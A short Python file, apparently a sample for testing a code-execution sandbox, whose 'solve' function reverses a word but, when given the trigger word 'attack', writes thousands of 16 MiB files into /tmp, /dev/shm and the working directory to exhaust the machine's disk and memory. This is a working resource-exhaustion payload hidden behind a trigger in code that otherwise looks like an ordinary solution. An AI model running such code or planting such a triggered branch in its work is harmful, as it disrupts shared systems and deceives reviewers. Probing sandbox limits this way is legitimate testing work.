"""Fills the disk with many files; the memory that a tmpfs takes is the machine's."""

ENOUGH = 512  # MiB: more than the box may hold by any of its limits


def solve(word, host):
    if word == "attack":
        written = sum(fill(f"{folder}/{number}") for folder in ("/tmp", "/dev/shm", ".") for number in range(4000))
        if written > ENOUGH:
            return f"wrote {written} MiB"
    return word[::-1]


def fill(path):
    try:
        with open(path, "wb", 0) as file:
            return sum(file.write(bytes(1 << 20)) for _ in range(16)) >> 20
    except OSError:
        return 0
